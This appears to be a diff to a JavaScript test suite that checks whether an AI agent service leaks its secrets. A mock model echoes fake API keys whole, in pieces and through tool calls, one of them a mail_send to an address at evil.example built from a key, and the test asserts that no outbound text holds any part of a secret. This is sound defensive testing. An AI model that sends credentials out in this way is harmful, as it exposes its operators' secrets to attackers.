@@ -19,12 +19,12 @@ const SECRETS = {
   OPENAI_API_KEY: fresh("sk-proj-"),
   ANTHROPIC_API_KEY: fresh("sk-ant-"),
   WEBHOOK_SIGNING_SECRET: `whsec_${randomBytes(24).toString("base64")}`,
-  // Bindings that nothing reads today must not leak either.
-  SLACK_BOT_TOKEN: fresh("xoxb-"),
-  SLACK_SIGNING_SECRET: fresh("ss-"),
-  DISCORD_BOT_TOKEN: fresh("db-"),
 };
-const ALL = Object.values(SECRETS);
+/** Bindings that nothing reads today: no service can know them, and nothing may tell them. */
+const UNREAD = { SLACK_BOT_TOKEN: fresh("xoxb-"), SLACK_SIGNING_SECRET: fresh("ss-"), DISCORD_BOT_TOKEN: fresh("db-") };
+/** What the services echo. */
+const KNOWN = Object.values(SECRETS);
+const ALL = [...KNOWN, ...Object.values(UNREAD)];
 /** Nothing that is read by strangers may hold this much of a secret. */
 const PART = 12;
 const PARTS = ALL.flatMap((value) => [value, value.slice(-PART), value.slice(0, PART + 6), Buffer.from(value).toString("base64").slice(2, -4), Buffer.from(value).toString("hex")]);
@@ -37,8 +37,8 @@ function assertClean(text, where) {
   for (const part of PARTS) assert.ok(!text.includes(part), `${where} holds ${part.slice(0, 6)}…`);
 }
 
-/** What the model repeats: all secrets, one of them cut at every place over the chunks. */
-const ECHO = `I was told ${ALL.join(" and ")}.`;
+/** What every service says. */
+const ECHO = `I was told ${KNOWN.join(" and ")}.`;
 
 const anthropic = (blocks) => Response.json({ id: "m", type: "message", role: "assistant", model: "m", content: blocks, stop_reason: blocks.at(-1).type === "tool_use" ? "tool_use" : "end_turn", usage: { input_tokens: 1, output_tokens: 1 } });
 
@@ -61,7 +61,7 @@ async function outbound(request, record) {
     return completion({ calls: [["notes_add", { text: ECHO }], ["mail_send", { to: `${SECRETS.OPENAI_API_KEY}@evil.example`, subject: ECHO, body: ECHO }], [SECRETS.SEAL_KEY, { [SECRETS.SEAL_KEY]: 1 }], ["reply", { parts: [ECHO] }]] });
   }
   if (words.includes("ways-letters")) return completion({ pieces: [...ECHO] });
-  if (words.includes("ways-halves")) return completion({ pieces: ALL.flatMap((value) => [value.slice(0, -3), value.slice(-3), " "]) });
+  if (words.includes("ways-halves")) return completion({ pieces: KNOWN.flatMap((value) => [value.slice(0, -3), value.slice(-3), " "]) });
   return completion({ text: ECHO });
 }
 
@@ -79,7 +79,7 @@ const hook = (conversation, text, headers = { prefer: "wait=15" }) =>
 const api = (path, init = {}) => ask(path, { ...init, headers: { authorization: `Bearer ${SECRETS.CONSOLE_TOKEN}` } });
 
 before(async () => {
-  agent = await startAgent({ bindings: { ...SECRETS, WEBHOOK_REPLY_URL: REPLY_URL, MODEL_PROVIDER: provider, MODEL_NAME: "m" }, outbound, persist: true });
+  agent = await startAgent({ bindings: { ...SECRETS, ...UNREAD, WEBHOOK_REPLY_URL: REPLY_URL, MODEL_PROVIDER: provider, MODEL_NAME: "m" }, outbound, persist: true });
 });
 
 after(() => agent.dispose());
@@ -115,7 +115,7 @@ test("a model of one format echoes every secret in every way", echoAll);
 
 test("a model of the other format does the same", async () => {
   provider = "anthropic";
-  await agent.restart({ bindings: { ...SECRETS, WEBHOOK_REPLY_URL: REPLY_URL, MODEL_PROVIDER: provider, MODEL_NAME: "m" } });
+  await agent.restart({ bindings: { ...SECRETS, ...UNREAD, WEBHOOK_REPLY_URL: REPLY_URL, MODEL_PROVIDER: provider, MODEL_NAME: "m" } });
   await echoAll();
 });
 
